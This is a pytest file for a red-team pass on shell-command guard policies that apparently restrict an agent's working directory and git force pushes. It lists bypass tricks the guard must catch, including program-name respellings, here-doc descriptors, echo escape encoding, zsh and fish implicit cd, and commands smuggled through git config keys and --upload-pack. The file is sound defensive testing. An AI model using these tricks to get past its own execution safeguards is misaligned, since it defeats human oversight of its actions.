"""Ninth red-team pass: other spellings of a program, descriptors, escapes, zsh and fish, git config writes.

Each test names a class, not one command: another spelling of the same program or input must
be judged as the plain one is, and the harmless near miss beside it must stay allowed.
"""

from __future__ import annotations

import pytest

from goalrail.policies.builtins._shell import analyze
from goalrail.policies.builtins.github import github_policy
from goalrail.policies.builtins.working_dir import block_working_dir_changes
from tests.unit.builtins.builtin_events import shell_event

REPO = "/work/repo"
FORCE = "git push --force https://github.com/myorg/app feature/a"


def _wd(command: str) -> str:
    out = block_working_dir_changes(allowed_dirs=[REPO])(shell_event(command, cwd=REPO))
    return "ALLOW" if out is None else out["result"]


def _gh(command: str, **params: object) -> str:
    params = params or {"write_repos": ["myorg/app"], "write_branches": ["feature/*"]}
    out = github_policy(**params)(shell_event(command, cwd=REPO))
    return "ALLOW" if out is None else out["result"]


def _names(command: str) -> list[str]:
    return [c.name for c in analyze(command).commands]


@pytest.mark.parametrize(
    "head",
    ["git.exe", "GIT.EXE", "GIT", "Git", "/usr/bin/GIT", "'C:\\Program Files\\Git\\cmd\\git.exe'", "retry git.exe"],
)
def test_git_spelled_otherwise_is_git(head: str) -> None:
    assert _gh(f"{head} push --force https://github.com/myorg/app feature/a") == "DENY"
    assert "git" in _names(f"{head} status")


@pytest.mark.parametrize(
    "shell", ["bash.exe", "BASH", "bash5", "bash-5.2", "zsh-static", "loksh", "pdksh", "hush", "/proc/self/exe"]
)
def test_shell_spelled_otherwise_reads_its_script(shell: str) -> None:
    assert _wd(f"{shell} -c 'cd /etc'") == "DENY"
    assert _gh(f"echo '{FORCE}' | {shell}") == "DENY"


def test_a_spelling_is_rewritten_only_for_programs_the_analysis_reads() -> None:
    assert _names("Mytool.exe --x") == ["Mytool.exe"]
    assert _names("python3.12t -V") == ["python"]
    assert _names("env2 git status")[0] == "env2"  # a version suffix only on shells, interpreters, git
    assert _wd("git.exe status") == _wd("GIT log -3") == "ALLOW"


def test_a_function_named_like_a_program_is_followed_as_the_function() -> None:
    assert _wd("GIT() { cd /etc; }; GIT") == "DENY"


@pytest.mark.parametrize(
    "command",
    [
        "sh /proc/self/fd/3 3<<'E'\ncd /etc\nE",
        "bash //dev/./fd/5 5<<'E'\ncd /etc\nE",
        "bash /dev/fd/3 3<<'E' </dev/null\ncd /etc\nE",
        "exec 3<<'E'\ncd /etc\nE\nbash <&3",
        "exec 3<<'E'\ncd /etc\nE\nbash /dev/fd/3",
        "exec <<<'cd /etc'; bash",
        "exec 0<<<'cd /etc'; sh",
        "exec 3< <(echo 'cd /etc'); bash /dev/fd/3",
        "at -f /dev/stdin now <<< 'cd /etc'",
    ],
)
def test_a_shell_reading_a_descriptor_reads_the_text_the_line_opened(command: str) -> None:
    assert _wd(command) == "DENY"


@pytest.mark.parametrize(
    "command",
    [
        "python3 /dev/fd/3 3<<'E'\nimport os; os.chdir('/etc')\nE",
        "exec <<'E'\nimport os; os.chdir('/etc')\nE\npython3",
        "make -f /dev/fd/3 3<<'E'\nall:\n\tcd /etc\nE",
    ],
)
def test_an_interpreter_reading_a_descriptor_reads_its_code(command: str) -> None:
    assert _wd(command) != "ALLOW"


@pytest.mark.parametrize(
    "command",
    [
        "bash /dev/fd/3 3<<'E'\necho hello\nE",
        "exec 3<<'E'\nhello\nE\ncat <&3",
        "exec >build.log 2>&1; bash scripts/build.sh",
        "exec <<<'y'; npm init",
        "sh /dev/fd/3 3<run.sh",
    ],
)
def test_descriptors_on_harmless_text_stay_allowed(command: str) -> None:
    assert _wd(command) == "ALLOW"
    assert _gh(command) == "ALLOW"


@pytest.mark.parametrize(
    "command",
    [
        "echo -e 'cd \\x2fetc' | bash",
        "echo -ne 'cd \\057etc' | sh",
        "echo -en 'cd \\u002fetc' | bash",
        "echo -eE -e 'cd \\0057etc' | sh",  # the last of -e/-E wins
        "bash <(echo -e 'cd \\x2fetc')",
    ],
)
def test_echo_escapes_are_decoded_before_a_shell_reads_them(command: str) -> None:
    assert _wd(command) == "DENY"


def test_echo_escapes_into_filters_and_harmless_shells_stay_allowed() -> None:
    for command in ("echo -e 'b\\na' | sort", "echo -n 'ls -la' | bash", "echo -e 'echo \\uD800 x\\c cd /etc' | bash"):
        assert _wd(command) == "ALLOW", command


@pytest.mark.parametrize(
    "command",
    [
        "nodemon --exec 'cd /etc && ls'",
        "watchexec -- 'cd /etc'",
        "pueue add 'pushd /etc'",
        "cmd.exe /c 'cd /etc'",
        "gdb -batch -ex run --args sh -c 'cd /etc'",
        "lldb -- bash -c 'cd /etc'",
        "nodemon --exec 'make -C /etc'",
        "pueue add 'env -C /etc ls'",
        "exec 3<<E\ncd /etc\nE\nbash -c 'bash <&3'",
        "npm.cmd --prefix /etc run build",
    ],
)
def test_a_command_line_another_program_runs_is_judged(command: str) -> None:
    assert _wd(command) == "DENY"


def test_dev_tools_running_harmless_command_lines_stay_allowed() -> None:
    for command in (
        "nodemon --exec 'npm test'",
        "pueue add 'make build'",
        "gdb --args ./build/app -v",
        "jira comment 'time to fix the build'",
        "mytool --msg 'eval this later'",
    ):
        assert _wd(command) == "ALLOW", command


def test_zsh_directory_stack_and_substitution_forms_of_cd() -> None:
    assert _wd("zsh -c 'cd -2'") == "DENY"
    assert _wd("cd +1") == "DENY"
    assert _wd("zsh -c 'cd repo /etc'") == "ASK"  # zsh puts NEW for OLD in $PWD
    assert _wd("cd -q /etc") == "DENY"
    assert _wd("cd -q src") == "ALLOW"


@pytest.mark.parametrize(
    "command",
    [
        "zsh -c 'setopt autocd; /etc'",
        "zsh -o AUTO_CD -c '/etc'",
        "zsh --autocd -c '..'",
        "zsh -c 'unsetopt no_auto_cd; ../..'",
        "zsh -c 'setopt cdablevars; cd HOME'",
    ],
)
def test_zsh_options_that_make_a_word_a_cd_are_asked(command: str) -> None:
    assert _wd(command) == "ASK"


def test_fish_is_read_as_another_language() -> None:
    assert _wd("fish -c '/etc/'") == "ASK"  # fish's implicit cd
    assert _wd("echo prevd | fish") == "ASK"
    assert _wd("fish -C 'cd /etc' -c true") == "DENY"  # its strings are still parsed
    assert _wd("zsh -c 'setopt extendedglob; ls'") == "ALLOW"


def test_git_places_set_for_later_git_commands_are_asked() -> None:
    assert _wd("export GIT_WORK_TREE=/etc; git status") == "ASK"
    assert _wd("GIT_DIR=/etc/.git; export GIT_DIR; git log") == "ASK"
    assert _wd("GIT_DIR=/etc/.git git log") == "DENY"  # a prefix is read from the command itself
    assert _wd("export GIT_PAGER=cat; git log") == "ALLOW"


def test_git_config_writing_a_command_key_is_judged_as_that_command() -> None:
    assert _wd("git config core.pager 'cd /etc'; git log") == "DENY"
    assert _wd("git config set core.editor 'cd /etc'") == "DENY"
    assert _wd("git config --file .git/config core.sshCommand 'cd /etc'") == "DENY"
    assert _gh(f"git config alias.p '!{FORCE}'") == "DENY"
    for command in ("git config user.name 'Jane Doe'", "git config --get core.pager", "git config core.editor vim"):
        assert _wd(command) == _gh(command) == "ALLOW", command


def test_tar_old_style_bundle_names_its_directory() -> None:
    assert _wd("tar xfC a.tar /etc") == "DENY"
    assert _wd("gtar Cxf /etc a.tar") == "DENY"
    assert _wd("tar cfC out.tar src .") == "ALLOW"


def test_gh_pull_request_deleting_its_branch_is_destructive() -> None:
    params = {"write_repos": ["myorg/app"]}
    assert _gh("gh pr close 12 -R myorg/app --delete-branch", **params) == "DENY"
    assert _gh("gh pr merge 12 -R myorg/app -sd", **params) == "DENY"
    assert _gh("gh pr merge 12 -R myorg/app -b d --squash", **params) == "ALLOW"  # `d` is -b's value
    assert _gh("gh pr close 12 -R myorg/app", **params) == "ALLOW"


def test_gh_repo_clone_hands_its_flags_to_git_clone() -> None:
    assert _gh(f"gh repo clone evil/x -- --upload-pack='{FORCE}'") == "DENY"
    assert _gh("gh repo clone myorg/app -- -c core.sshCommand='sh -c x'") == "ASK"
    assert _wd("gh repo clone myorg/app -- -u 'cd /etc'") == "DENY"
    assert _gh("gh repo clone myorg/app -- --depth 1") == "ALLOW"


def test_a_windows_drive_is_outside_every_directory() -> None:
    assert _wd("cd C:/Windows") == "DENY"
    assert _wd("cd 'D:\\work\\other'") == "DENY"
    assert _wd("git -C C:/Users/me/other status") == "DENY"
    assert _wd("ls C:/Windows") == "ALLOW"  # a path read, not a directory change


def test_backquotes_in_an_unquoted_here_document_run() -> None:
    assert _wd("cat <<E\n`cd /etc`\nE") == "DENY"
    assert _gh("cat > notes.txt <<E\nsee `git push https://github.com/evil/repo feature/a`\nE") == "DENY"
    assert _wd("cat <<'E'\nrun `cd /etc` by hand\nE") == "ALLOW"  # a quoted delimiter: text
    assert _wd("cat <<E\nuse \\`cd /etc\\` to build\nE") == "ALLOW"  # escaped backquotes: text


def test_a_function_moving_its_arguments_inside_backquotes_is_not_followed_with_them() -> None:
    # found by tests/property/test_shell_analysis_props.py: `set --` inside `…` sets what "$@" is
    assert _wd("f() { echo `set -- -c 'cd /etc'; bash \"$@\"`; }; f") != "ALLOW"
    assert _wd("f() { echo `shift; bash \"$@\"`; }; f x -c 'cd /etc'") != "ALLOW"
